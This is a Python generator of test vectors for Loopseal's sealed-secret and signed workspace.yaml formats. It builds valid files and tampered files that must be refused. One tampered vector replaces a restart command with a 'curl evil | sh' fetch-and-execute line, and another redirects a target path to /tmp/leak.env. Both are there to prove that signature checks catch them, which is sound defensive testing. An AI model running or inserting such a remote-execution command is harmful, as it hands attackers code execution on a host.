#!/usr/bin/env python3
"""Generates the sealed-file test vectors in this folder from docs/FORMAT.md, with PyNaCl.

This is a second implementation of the format, written from the specification and sharing no
code with Loopseal: the Swift tests rebuild every `good_*` file byte for byte from the same
inputs and refuse every `fail_*` file for the stated reason.

usage: generate.py           rewrite the *.json vectors
       generate.py --check   exit 1 unless the vectors on disk are exactly what this makes
"""
import base64
import hashlib
import json
import os
import sys

import nacl.bindings as sodium
from nacl.public import PrivateKey, SealedBox
from nacl.signing import SigningKey, VerifyKey

HERE = os.path.dirname(os.path.abspath(__file__))
CHARSET = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"
HEADER = "# Sealed by loopseal. Change it with `loopseal set`; do not edit by hand.\n"


def bech32_encode(hrp, data):
    """BIP 173 bech32 (FORMAT.md §3), lower case."""
    def polymod(values):
        gen = [0x3B6A57B2, 0x26508E6D, 0x1EA119FA, 0x3D4233DD, 0x2A1462B3]
        chk = 1
        for v in values:
            top = chk >> 25
            chk = (chk & 0x1FFFFFF) << 5 ^ v
            for i in range(5):
                chk ^= gen[i] if ((top >> i) & 1) else 0
        return chk

    acc, bits, values = 0, 0, []
    for byte in data:
        acc = (acc << 8) | byte
        bits += 8
        while bits >= 5:
            bits -= 5
            values.append((acc >> bits) & 31)
    if bits:
        values.append((acc << (5 - bits)) & 31)
    hrp = hrp.lower()
    expanded = [ord(c) >> 5 for c in hrp] + [0] + [ord(c) & 31 for c in hrp]
    mod = polymod(expanded + values + [0] * 6) ^ 1
    checksum = [(mod >> (5 * (5 - i))) & 31 for i in range(6)]
    return hrp + "1" + "".join(CHARSET[v] for v in values + checksum)


def b64(data):
    return base64.b64encode(data).decode("ascii")


def fixed(label, size=32):
    """Deterministic test bytes: SHA-256 of a label (never use such keys for anything real)."""
    return hashlib.sha256(label.encode()).digest()[:size]


class Recipient:
    def __init__(self, name):
        self.secret = fixed("loopseal test vector identity " + name)
        self.public = sodium.crypto_scalarmult_base(self.secret)
        self.identity = bech32_encode("age-secret-key-", self.secret).upper()
        self.recipient = bech32_encode("age", self.public)


class Writer:
    def __init__(self, name):
        self.seed = fixed("loopseal test vector signing key " + name)
        self.key = SigningKey(self.seed)
        self.public = bytes(self.key.verify_key)
        self.text = bech32_encode("loopseal-signing-key-", self.seed).upper()
        self.writer = bech32_encode("loopsealsign", self.public)


def seal_data_key(data_key, recipient, label):
    """crypto_box_seal with a fixed ephemeral key (FORMAT.md §6)."""
    esk = fixed("loopseal test vector ephemeral " + label)
    epk = sodium.crypto_scalarmult_base(esk)
    nonce = hashlib.blake2b(epk + recipient.public, digest_size=24).digest()
    sealed = epk + sodium.crypto_box(data_key, nonce, recipient.public, esk)
    assert SealedBox(PrivateKey(recipient.secret)).decrypt(sealed) == data_key
    return sealed, {
        "identity": recipient.identity,
        "recipient": recipient.recipient,
        "ephemeralSecretKey": esk.hex(),
        "ephemeralPublicKey": epk.hex(),
        "sealedBoxNonce": nonce.hex(),
        "sealedDataKey": b64(sealed),
    }


METADATA_FIELDS = ["owner", "expires", "rotateEvery", "rotated", "description"]


def quoted(text):
    """FORMAT.md §2: a description in double quotes, `"` and `\\` escaped with a backslash."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def body(secret):
    """The content lines (FORMAT.md §2), `loopseal:` through the last recipient, then the
    metadata lines of format 2."""
    metadata = secret.get("metadata") or {}
    text = "loopseal: %d\nid: %s\nkey: %s\n" % (2 if metadata else 1, secret["id"], secret["key"])
    if secret["value"] is not None:
        text += "value: %s\nrecipients:\n" % b64(secret["value"])
        for recipient in sorted(secret["recipients"]):
            text += "  %s: %s\n" % (recipient, b64(secret["recipients"][recipient]))
    for field in METADATA_FIELDS:
        if field in metadata:
            value = quoted(metadata[field]) if field == "description" else metadata[field]
            text += "%s: %s\n" % (field, value)
    return text


def signed_bytes(workspace, writer, secret):
    """FORMAT.md §8."""
    return ("loopseal-signature/1\nworkspace: %s\nwriter: %s\n" % (workspace, writer) + body(secret)).encode()


def file_text(secret, signature=None):
    text = HEADER + body(secret)
    if signature is not None:
        writer, sig = signature
        text += "signature:\n  writer: %s\n  ed25519: %s\n" % (writer, b64(sig))
    return text


def good(name, description, workspace, key, uuid, value, recipients, writer=None, metadata=None):
    vector = {"name": name, "description": description, "workspace": workspace, "id": uuid, "key": key,
              "value": value}
    if metadata:
        vector["metadata"] = metadata
    secret = {"id": uuid, "key": key, "value": None, "recipients": {}, "metadata": metadata}
    if value is not None:
        data_key = fixed("loopseal test vector data key " + name)
        nonce = fixed("loopseal test vector nonce " + name, 24)
        aad = "loopseal/1/%s/%s" % (workspace, key)
        ciphertext = sodium.crypto_aead_xchacha20poly1305_ietf_encrypt(value.encode("utf-8"), aad.encode(), nonce, data_key)
        secret["value"] = nonce + ciphertext
        entries = []
        for index, recipient in enumerate(recipients):
            sealed, entry = seal_data_key(data_key, recipient, "%s %d" % (name, index))
            secret["recipients"][recipient.recipient] = sealed
            entries.append(entry)
        vector.update({"dataKey": data_key.hex(), "nonce": nonce.hex(), "associatedData": aad, "recipients": entries})
    else:
        vector.update({"dataKey": None, "nonce": None, "associatedData": None, "recipients": []})
    signature = None
    if writer is not None:
        message = signed_bytes(workspace, writer.writer, secret)
        sig = writer.key.sign(message).signature
        VerifyKey(writer.public).verify(message, sig)
        signature = (writer.writer, sig)
        vector.update({"writers": {"ci": writer.writer}, "signingKey": writer.text, "signedBytes": message.decode()})
    else:
        vector.update({"writers": {}, "signingKey": None, "signedBytes": None})
    vector["file"] = file_text(secret, signature)
    return vector, secret, signature


def fail(name, description, workspace, writers, file, error, identity=None):
    return {"name": name, "description": description, "workspace": workspace,
            "writers": {w_name: w.writer for w_name, w in writers.items()},
            "identity": identity, "file": file, "error": error}


def vectors():
    alice, bob = Recipient("alice"), Recipient("bob")
    ci, mallory = Writer("ci"), Writer("mallory")
    ws = "acme-prod"
    out = []

    v, _, _ = good("good_one_recipient", "A value sealed to one recipient; unsigned (no writers).",
                   ws, "DATABASE_URL", "6f1c0f6e-2a34-4d0e-9a53-3c0d7f1a9b20",
                   "postgres://app:s3cret@db.internal:5432/app", [alice])
    out.append(v)
    v, _, _ = good("good_two_recipients", "A value sealed to two recipients, listed sorted by their age1 string.",
                   ws, "API_TOKEN", "0b8e4c1a-77d2-4f4e-8c1e-5a6b7c8d9e0f", "tok_live_0123456789abcdef", [bob, alice])
    out.append(v)
    v, _, _ = good("good_declared", "A requested secret without a value: no value, no recipients.",
                   ws, "STRIPE_KEY", "9d2f0a55-3b1c-4e8f-a0b1-c2d3e4f50617", None, [])
    out.append(v)
    v, _, _ = good("good_multiline_utf8", "A UTF-8, multi-line value ending in a newline.",
                   ws, "TLS_KEY", "2c4e6a80-1b3d-4f5a-9c7e-0d2f4a6c8e1b",
                   "h\u00e9llo \u2713 \u65e5\u672c\n-----BEGIN KEY-----\nabc\n-----END KEY-----\n", [alice])
    out.append(v)
    v, _, _ = good("good_empty_value", "An empty value: the ciphertext is only the 16-byte tag.",
                   ws, "EMPTY", "5e7a9c1b-3d5f-4a7c-8e9a-1b3d5f7a9c2e", "", [alice])
    out.append(v)
    v, signed_secret, signed_sig = good("good_signed", "A value sealed to two recipients and signed by writer 'ci'.",
                                        ws, "DATABASE_URL", "6f1c0f6e-2a34-4d0e-9a53-3c0d7f1a9b20",
                                        "postgres://app:s3cret@db.internal:5432/app", [alice, bob], writer=ci)
    out.append(v)
    v, declared_secret, declared_sig = good("good_signed_declared", "A requested secret without a value, signed by 'ci'.",
                                            ws, "STRIPE_KEY", "9d2f0a55-3b1c-4e8f-a0b1-c2d3e4f50617", None, [], writer=ci)
    out.append(v)
    other, other_secret, _ = good("other", "", ws, "REDIS_URL", "7a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d",
                                  "redis://cache:6379/0", [alice, bob], writer=ci)

    writers = {"ci": ci}
    out.append(fail("fail_unsigned", "Writers are listed and the file carries no signature.",
                    ws, writers, file_text(signed_secret), "unsigned"))
    mallory_sig = mallory.key.sign(signed_bytes(ws, mallory.writer, signed_secret)).signature
    out.append(fail("fail_unlisted_writer", "A valid signature by a key that 'writers:' does not list.",
                    ws, writers, file_text(signed_secret, (mallory.writer, mallory_sig)), "signedByNonWriter"))
    tampered = dict(signed_secret, value=other_secret["value"])
    out.append(fail("fail_signature_over_other_bytes", "The value was replaced after signing.",
                    ws, writers, file_text(tampered, signed_sig), "badSignature"))
    out.append(fail("fail_signature_moved", "A valid signature copied from another file (REDIS_URL's onto DATABASE_URL's content).",
                    ws, writers, file_text(signed_secret, (ci.writer, ci.key.sign(signed_bytes(ws, ci.writer, other_secret)).signature)),
                    "badSignature"))
    moved = dict(other_secret, id=declared_secret["id"], key=declared_secret["key"])
    out.append(fail("fail_signature_moved_to_declared", "The declared STRIPE_KEY's signature on a file that now has a value.",
                    ws, writers, file_text(moved, declared_sig), "badSignature"))
    recipients = dict(signed_secret["recipients"])
    recipients.pop(bob.recipient)
    out.append(fail("fail_tampered_recipients", "A recipient was removed from a signed file.",
                    ws, writers, file_text(dict(signed_secret, recipients=recipients), signed_sig), "badSignature"))
    out.append(fail("fail_other_workspace", "A signed file copied into another workspace that lists the same writer.",
                    "acme-staging", writers, file_text(signed_secret, signed_sig), "badSignature"))
    out.append(fail("fail_tampered_value", "One bit of the ciphertext flipped in an unsigned file: the value does not open.",
                    ws, {}, file_text(dict(signed_secret, value=signed_secret["value"][:30] + bytes([signed_secret["value"][30] ^ 1]) + signed_secret["value"][31:])),
                    "openFailed", identity=alice.identity))

    # Format 2: metadata (FORMAT.md §2), covered by the signature (§8).
    v, _, _ = good("good_metadata", "Format 2: a value with every metadata field; the description holds quotes, a backslash and UTF-8.",
                   ws, "SMTP_PASSWORD", "3e5a7c9b-1d3f-4b5d-8f7a-9c1e3a5b7d9f", "smtp-canary-7f3a", [alice],
                   metadata={"owner": "alice", "expires": "2027-03-01", "rotateEvery": "90d", "rotated": "2026-12-01",
                             "description": 'Mail relay "app" login \\ ops \u2014 r\u00e9seau'})
    out.append(v)
    meta = {"owner": "ops@example.com", "rotateEvery": "12w", "rotated": "2026-11-20"}
    v, meta_secret, meta_sig = good("good_signed_metadata", "Format 2, signed by 'ci': the metadata lines are in the signed bytes.",
                                    ws, "DATABASE_URL", "6f1c0f6e-2a34-4d0e-9a53-3c0d7f1a9b20",
                                    "postgres://app:s3cret@db.internal:5432/app", [alice, bob], writer=ci, metadata=meta)
    out.append(v)
    v, _, _ = good("good_signed_declared_metadata", "Format 2: a requested secret without a value that already has an owner, signed.",
                   ws, "STRIPE_KEY", "9d2f0a55-3b1c-4e8f-a0b1-c2d3e4f50617", None, [], writer=ci,
                   metadata={"owner": "bob", "description": "Stripe live key"})
    out.append(v)
    changed = dict(meta_secret, metadata=dict(meta, owner="mallory"))
    out.append(fail("fail_metadata_changed", "The owner changed after signing: the value is untouched, the signature fails.",
                    ws, writers, file_text(changed, meta_sig), "badSignature"))
    out.append(fail("fail_metadata_removed", "The metadata lines removed (and the file turned back into format 1) after signing.",
                    ws, writers, file_text(dict(meta_secret, metadata=None), meta_sig), "badSignature"))
    later = dict(meta_secret, metadata=dict(meta, rotateEvery="520w"))
    out.append(fail("fail_metadata_signed_by_non_writer", "The rotation period changed and the file re-signed by a key 'writers:' does not list.",
                    ws, writers, file_text(later, (mallory.writer, mallory.key.sign(signed_bytes(ws, mallory.writer, later)).signature)),
                    "signedByNonWriter"))
    out.append(fail("fail_metadata_in_format_1", "A metadata field in a file that says 'loopseal: 1': refused, not read as format 1.",
                    ws, {}, file_text(dict(meta_secret, metadata=None)).replace("recipients:\n", "owner: alice\nrecipients:\n", 1),
                    "malformed"))
    return out


def canonical(node):
    """FORMAT.md §8, "The signed workspace file": a node's one-line canonical text."""
    if isinstance(node, str):
        out = '"'
        for ch in node:
            if ch == '"':
                out += '\\"'
            elif ch == "\\":
                out += "\\\\"
            elif ch in "\b\t\n\f\r":
                out += {"\b": "\\b", "\t": "\\t", "\n": "\\n", "\f": "\\f", "\r": "\\r"}[ch]
            elif ord(ch) < 0x20:
                out += "\\u%04x" % ord(ch)
            else:
                out += ch
        return out + '"'
    if isinstance(node, list):
        return "[" + ",".join(canonical(item) for item in node) + "]"
    return "{" + ",".join(canonical(k) + ":" + canonical(v) for k, v in node.items()) + "}"


def config_head(config):
    """`workspace:`, `recipients:` and `writers:` lines: the same in the file and in the signed bytes."""
    text = "workspace: %s\nrecipients:\n" % config["workspace"]
    for name, recipient in config["recipients"].items():
        text += "  %s: %s\n" % (name, recipient)
    text += "writers:\n"
    for name, writer in config["writers"].items():
        text += "  %s: %s\n" % (name, writer)
    return text


def config_content(config):
    """The content lines a workspace.yaml signature covers."""
    return config_head(config) + "targets: %s\n" % canonical(config["targets"])


def config_signed_bytes(config, writer):
    return ("loopseal-workspace-signature/1\nwriter: %s\n" % writer + config_content(config)).encode()


def block_yaml(node, indent=0):
    """Block-style YAML of plain scalars, as Loopseal writes targets."""
    pad = " " * indent
    if isinstance(node, list):
        lines = ""
        for item in node:
            if isinstance(item, str):
                lines += pad + "- " + item + "\n"
            else:
                inner = block_yaml(item, indent + 2)
                lines += pad + "- " + inner[indent + 2:]
        return lines
    lines = ""
    for key, value in node.items():
        if isinstance(value, str):
            lines += pad + "%s: %s\n" % (key, value)
        else:
            lines += pad + "%s:\n" % key + block_yaml(value, indent)
    return lines


def config_file(config, signature=None):
    """workspace.yaml as Loopseal writes it (FORMAT.md §7), the signature block last."""
    text = config_head(config)
    text += "targets:\n" + block_yaml(config["targets"]) if config["targets"] else "targets: []\n"
    return text + signature_block(signature)


def signature_block(signature):
    if signature is None:
        return ""
    writer, sig = signature
    return "signature:\n  writer: %s\n  ed25519: %s\n" % (writer, b64(sig))


def sign_config(config, writer):
    message = config_signed_bytes(config, writer.writer)
    sig = writer.key.sign(message).signature
    VerifyKey(writer.public).verify(message, sig)
    return message, (writer.writer, sig)


def config_vectors():
    alice, bob, eve = Recipient("alice"), Recipient("bob"), Recipient("eve")
    ci, ops, mallory = Writer("ci"), Writer("ops"), Writer("mallory")
    config = {
        "workspace": "acme-prod",
        "recipients": {"alice": alice.recipient, "bob": bob.recipient},
        "writers": {"ci": ci.writer, "ops": ops.writer},
        "targets": [
            {"name": "app", "type": "file", "path": "/etc/app/app.env", "format": "dotenv", "keys": ["DATABASE_URL"],
             "restart": ["systemctl", "restart", "app"], "hosts": ["web-1", "web-*"]},
            {"name": "deploy", "type": "command", "command": ["/usr/local/bin/deploy", "reload"], "format": "json"},
        ],
    }
    pinned = [ci.writer]
    out = []

    def good(name, description, file, signed_bytes, canonical_file):
        return {"name": name, "description": description, "workspace": "acme-prod", "pinned": pinned,
                "signingKey": ci.text, "signedBytes": signed_bytes.decode(), "canonical": canonical_file, "file": file}

    def fail(name, description, file, error, workspace="acme-prod"):
        return {"name": name, "description": description, "workspace": workspace, "pinned": pinned,
                "file": file, "error": error}

    message, signature = sign_config(config, ci)
    out.append(good("good_signed", "Two recipients, writers ci and ops, two targets (one for some hosts); signed by ci, pinned.",
                    config_file(config, signature), message, True))
    respelled = (
        "# Re-spelled by hand: comments, fields in another order, flow style, quotes, an upper-case key.\n"
        "writers: {ci: %s, ops: '%s'}\n"
        "workspace: \"acme-prod\"\n"
        "recipients:\n"
        "    alice: %s   # alice's laptop\n"
        "    bob: %s\n"
        "targets:\n"
        "  - {name: app, type: file, path: \"/etc/app/app.env\", format: dotenv, keys: [DATABASE_URL],\n"
        "     restart: [systemctl, restart, app], hosts: [web-1, \"web-*\"]}\n"
        "  - name: deploy\n"
        "    type: command\n"
        "    command: [/usr/local/bin/deploy, 'reload']\n"
        "    format: json\n"
    ) % (ci.writer, ops.writer, alice.recipient.upper(), bob.recipient)
    out.append(good("good_respelled", "The same content spelled another way carries the same signature: spelling is not signed.",
                    respelled + signature_block(signature), message, False))
    escaped = dict(config, targets=[{"name": "hook", "type": "command",
                                     "command": ["sh", "-c", "printf '%s\\n' \"$X\"\t\u00e9\u2713"],
                                     "options": {"banner": "line one\nline \"two\" \\ end\n"}}])
    escaped_file = (
        "workspace: acme-prod\nrecipients:\n  alice: %s\n  bob: %s\nwriters:\n  ci: %s\n  ops: %s\n"
        "targets:\n"
        "- name: hook\n"
        "  type: command\n"
        "  command: [sh, -c, \"printf '%%s\\\\n' \\\"$X\\\"\\t\u00e9\u2713\"]\n"
        "  options:\n"
        "    banner: |\n"
        "      line one\n"
        "      line \"two\" \\ end\n"
    ) % (alice.recipient, bob.recipient, ci.writer, ops.writer)
    escaped_message, escaped_signature = sign_config(escaped, ci)
    out.append(good("good_signed_escapes", "Quotes, a backslash, a tab, a line break and UTF-8 in targets: the canonical text's escapes.",
                    escaped_file + signature_block(escaped_signature), escaped_message, False))

    out.append(fail("fail_unsigned", "Writers are listed and workspace.yaml carries no signature.", config_file(config), "unsigned"))
    changed = json.loads(json.dumps(config))
    changed["targets"][0]["path"] = "/tmp/leak.env"
    out.append(fail("fail_target_path_changed", "A target's path changed after signing.", config_file(changed, signature), "mismatch"))
    changed = json.loads(json.dumps(config))
    changed["targets"][0]["restart"] = ["sh", "-c", "curl evil | sh"]
    out.append(fail("fail_target_command_changed", "A target's restart command changed after signing.",
                    config_file(changed, signature).replace("- curl evil | sh", "- 'curl evil | sh'"), "mismatch"))
    changed = json.loads(json.dumps(config))
    changed["targets"][0]["hosts"] = ["*"]
    out.append(fail("fail_target_hosts_changed", "A target's hosts changed after signing.",
                    config_file(changed, signature).replace("- *\n", "- '*'\n"), "mismatch"))
    changed = json.loads(json.dumps(config))
    changed["recipients"]["eve"] = eve.recipient
    out.append(fail("fail_recipient_added", "A recipient added after signing.", config_file(changed, signature), "mismatch"))
    changed = json.loads(json.dumps(config))
    changed["writers"]["mallory"] = mallory.writer
    _, mallory_signature = sign_config(changed, mallory)
    out.append(fail("fail_writer_added_self_signed", "A writer added and the file signed with that writer's own key: valid, but not pinned.",
                    config_file(changed, mallory_signature), "unpinned"))
    _, ops_signature = sign_config(config, ops)
    out.append(fail("fail_signed_by_unpinned_writer", "Signed by ops, a writer the file lists but the host does not pin.",
                    config_file(config, ops_signature), "unpinned"))
    sealed_signature = (ci.writer, ci.key.sign(("loopseal-signature/1\nworkspace: acme-prod\nwriter: %s\n" % ci.writer
                                                 + config_content(config)).encode()).signature)
    out.append(fail("fail_sealed_file_context", "Signed over the same content with a sealed file's context line: no signature stands for the other.",
                    config_file(config, sealed_signature), "mismatch"))
    other = dict(config, workspace="acme-staging")
    out.append(fail("fail_other_workspace", "A signed workspace.yaml copied into another workspace (its id changed to match).",
                    config_file(other, signature), "mismatch", workspace="acme-staging"))
    return out


def main():
    check = sys.argv[1:] == ["--check"]
    problems = []
    all_vectors = [(HERE, v) for v in vectors()] + [(os.path.join(HERE, "workspace"), v) for v in config_vectors()]
    for folder, vector in all_vectors:
        path = os.path.join(folder, vector["name"] + ".json")
        text = json.dumps(vector, indent=2, ensure_ascii=False) + "\n"
        if check:
            with open(path, encoding="utf-8") as f:
                if f.read() != text:
                    problems.append(path)
        else:
            os.makedirs(folder, exist_ok=True)
            with open(path, "w", encoding="utf-8") as f:
                f.write(text)
    if problems:
        print("vectors differ from what generate.py makes: " + ", ".join(problems), file=sys.stderr)
        sys.exit(1)


if __name__ == "__main__":
    main()
